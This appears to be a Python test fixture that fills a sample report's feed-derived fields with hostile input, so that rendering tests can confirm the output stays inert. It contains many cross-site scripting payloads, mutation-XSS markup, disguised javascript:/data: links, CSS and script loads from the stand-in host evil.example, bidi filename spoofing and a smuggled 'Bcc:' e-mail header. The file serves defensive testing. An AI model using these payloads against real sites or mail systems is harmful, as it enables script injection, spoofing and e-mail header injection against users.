"""The sample report with attacker-written text in every field that comes from a feed.

Script tags, event handlers, ``javascript:``/``data:``/``vbscript:`` links (also disguised by
an entity, a tab or a missing scheme), CSS that fetches, evaluates or binds behaviour, markup
that mutates when re-parsed (``noscript``, ``svg``/``math`` with ``style``), ``base``/``form``
elements, double-encoded script, bidi overrides and isolates, Unicode line separators and a
1 MB title: the report, the alerts and the e-mails must show all of it as inert text (the
tests check the markup; ``test_browser.py`` checks it in Chromium and
``tests/reliability/test_hostile_content.py`` in the messages an SMTP server receives).
"""

from __future__ import annotations

from reports.schema import EvidenceDocument, ReportData
from tests.reports.sample import sample_report

HOSTILE_TITLE = '<script>alert("title")</script><img src=x onerror=alert(1)>Graphene'
HOSTILE_SNIPPET = (
    "<img src=x onerror=alert(2)><svg onload=alert(3)></svg>"
    '<a href="javascript:alert(4)">click</a>'
    '<div style="background:url(http://evil.example/x.png)">styled</div>'
    '<p style="width:expression(alert(5))">css expression</p>'
    "<iframe src=http://evil.example/frame></iframe>"
    "<link rel=stylesheet href=http://evil.example/x.css>"
)
MUTATING_SNIPPET = (
    '<noscript><p title="</noscript><img src=x onerror=alert(17)>"></noscript>'
    "<svg><style><img src=x onerror=alert(18)></style></svg>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(19)></style></mglyph>"
    "</table></mtext></math>"
    '<base href="http://evil.example/"><form action="http://evil.example/"><button>go</button>'
    '</form><div style="behavior:url(http://evil.example/x.htc);'
    '-moz-binding:url(http://evil.example/x.xml#x)">bound</div>'
    "<style>@import url(http://evil.example/i.css);</style>"
    "<template><img src=x onerror=alert(20)></template><!--<img src=x onerror=alert(21)>-->"
    "&lt;script&gt;alert(22)&lt;/script&gt; double-encoded"
)
# Links that are not web addresses, however they are dressed up; each is shown as withheld.
UNSAFE_LINKS = (
    "javascript:alert(9)",
    "data:text/html,<script>alert(10)</script>",
    " JaVaScRiPt:alert(11)",
    "vbscript:msgbox(23)",
    "jav&#x09;ascript:alert(24)",
    "java\tscript:alert(25)",
    "//evil.example/protocol-relative",
    "https://user:password@evil.example/credentials",
)
BIDI_LABEL = "Invoice \u202egnp.exe\u202c batteries"


def hostile_report() -> ReportData:
    """:func:`sample_report` with attacker-written text in every field that comes from a feed."""
    data = sample_report()
    card = data.topics[0]
    megabyte = "A" * 1_000_000
    card.label = BIDI_LABEL + '"><script>alert(6)</script>'
    card.terms = ["<b onmouseover=alert(7)>term</b>", *card.terms]
    card.reasons = ["share up <img src=x onerror=alert(8)> 4x", *card.reasons]
    card.evidence = [
        EvidenceDocument(external_id="hostile-1", title=HOSTILE_TITLE,
                         url=UNSAFE_LINKS[0], kind="news", snippet=HOSTILE_SNIPPET),
        EvidenceDocument(external_id="hostile-2", title="Data URL " + megabyte,
                         url=UNSAFE_LINKS[1], kind="news",
                         snippet="<style>body{background:url(http://evil.example/bg)}</style>x"),
        EvidenceDocument(external_id="hostile-3", title="Spaced javascript link",
                         url=UNSAFE_LINKS[2], kind="publication",
                         snippet="\u202eevil reversed text\u202c and <script>fetch('http://evil.example/')</script>"),
        *card.evidence,
    ]  # fmt: skip
    data.topics[2].evidence = [
        EvidenceDocument(external_id=f"hostile-link-{n}", title=f"Disguised link {n}", url=url,
                         kind="news", snippet=MUTATING_SNIPPET if n == 0 else "")
        for n, url in enumerate(UNSAFE_LINKS[3:])
    ]  # fmt: skip
    isolated = "\u2067Isolated\u2069 \u200fmarks\u2028Bcc: victim@example.org"
    data.topics[2].label = isolated
    for flagged in data.flagged:
        if flagged.topic_id == data.topics[2].topic_id:
            flagged.label = isolated
    data.flagged[0].label = card.label
    data.flagged[0].why = "<img src=x onerror=alert(12)>share up 4x"
    data.ranking[0].label = megabyte
    data.landscape[0].label = "<script>alert(13)</script>"
    data.regions[0].name = (
        "Lower Austria<script>alert(14)</script>"
        '<style>*{background:url("http://evil.example/r")}</style>'
    )
    data.coverage.sources[6].error = "<img src=http://evil.example/e.png onerror=alert(15)>"
    data.rising_terms[0].term = "javascript:alert(16)"
    return data
